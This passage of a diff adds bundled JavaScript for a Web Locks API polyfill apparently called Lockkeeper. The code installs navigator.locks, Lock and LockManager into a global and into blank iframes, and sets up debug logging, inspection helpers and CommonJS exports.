+      return () => void listeners.delete(listener);
+    }
+  };
+};
+
+// glue/api/blank-frames.js
+var installInBlankFrames = ({ HTMLIFrameElement }, installIn) => {
+  if (!HTMLIFrameElement) return;
+  const { prototype: prototype2 } = HTMLIFrameElement;
+  const { get } = (
+    /** @type {{get: () => Window & typeof globalThis}} */
+    Object.getOwnPropertyDescriptor(prototype2, "contentWindow")
+  );
+  defineMembers(prototype2, {
+    get contentWindow() {
+      const window = get.call(this);
+      try {
+        if (window.location.href === "about:blank") installIn(window);
+      } catch {
+      }
+      return window;
+    }
+  });
+};
+
+// glue/api/install.js
+var install = (global2, manager, interfaces, { force, insecure } = {}) => {
+  const { navigator } = global2;
+  if (navigator && navigator.locks && !force) return navigator.locks;
+  if (global2.isSecureContext === false && !insecure) return void 0;
+  if (!navigator) return manager;
+  const prototype2 = Object.getPrototypeOf(navigator);
+  const plain = !prototype2 || prototype2 === Object.prototype || Object.getOwnPropertyDescriptor(navigator, "locks");
+  defineMembers(plain ? navigator : prototype2, {
+    get locks() {
+      if (
+        /** @type {unknown} */
+        this !== navigator
+      ) throw new TypeError("Illegal invocation");
+      return manager;
+    }
+  });
+  for (const name in interfaces) {
+    Object.defineProperty(global2, name, { value: interfaces[name], writable: true, configurable: true });
+  }
+  return manager;
+};
+
+// glue/entries/default.js
+var createDefault = (openLog2) => {
+  const locks2 = createLockManager(global, openLog2);
+  const install3 = (options) => {
+    const installIn = (window, manager2) => install(window, manager2, { Lock, LockManager }, options);
+    const manager = installIn(global, locks2);
+    if (manager === locks2) {
+      if (options && options.join) openLog2().join();
+      installInBlankFrames(global, (window) => {
+        if (window.LockManager !== LockManager) installIn(window, createLockManager(window, logOpener("", { window })));
+      });
+    }
+    return manager;
+  };
+  return { locks: locks2, install: install3 };
+};
+
+// glue/entries/index.js
+var now2 = () => Date.now();
+var observation = /* @__PURE__ */ createObservation(now2);
+var debug;
+var openLog = /* @__PURE__ */ withDebug(
+  /* @__PURE__ */ logOpener("", {}, observation.watch),
+  { label: "", now: now2, observation, hasLeader: !isNode, choosePrinter: () => printerFor(debug) }
+);
+var byDefault = /* @__PURE__ */ createDefault(openLog);
+var { locks } = byDefault;
+var install2 = (options) => {
+  checkInstallOptions(options);
+  if (options && options.debug !== void 0) ({ debug } = options);
+  if (isNode && !global.navigator) Object.defineProperty(global, "navigator", { value: {}, writable: true, configurable: true });
+  return byDefault.install(options);
+};
+var faces = /* @__PURE__ */ new WeakMap();
+var internal = {
+  /** What the drafts need of a manager; undefined if it is not one of Lockkeeper's. @param {object} manager @returns {Face | undefined} */
+  faceOf: (manager) => manager === locks ? { environment: createEnvironment(global), openLog, observation } : faces.get(manager)
+};
+var report = async (face) => reportOf(await face.openLog().inspect(), face.observation.sinceOf);
+var createLockManager2 = (given) => {
+  const environment = createEnvironment(global);
+  if (wantsClaims(given)) {
+    const { manager: manager2, openLog: openClaims } = createClaimsLockManager2(given);
+    faces.set(manager2, { environment, openLog: openClaims });
+    return manager2;
+  }
+  const { name, debug: debug2, options } = toOwnManager(given, isNode);
+  const own = createObservation(now2);
+  const open3 = withDebug(
+    logOpener(name, options, own.watch),
+    { label: name, now: now2, observation: own, hasLeader: !isNode, choosePrinter: () => printerFor(debug2) }
+  );
+  const closable = createClosable(open3, environment);
+  const face = { environment, openLog: closable.openLog, observation: own };
+  const manager = makeOwn(createLockManager(global, closable.openLog), { inspect: () => report(face), close: closable.close });
+  faces.set(manager, face);
+  return manager;
+};
+var inspect = () => report({ openLog, observation });
+// Annotate the CommonJS export names for ESM import in node:
+0 && (module.exports = {
+  Lock,
+  LockManager,
+  createLockManager,
+  inspect,
+  install,
+  internal,
+  locks
+});
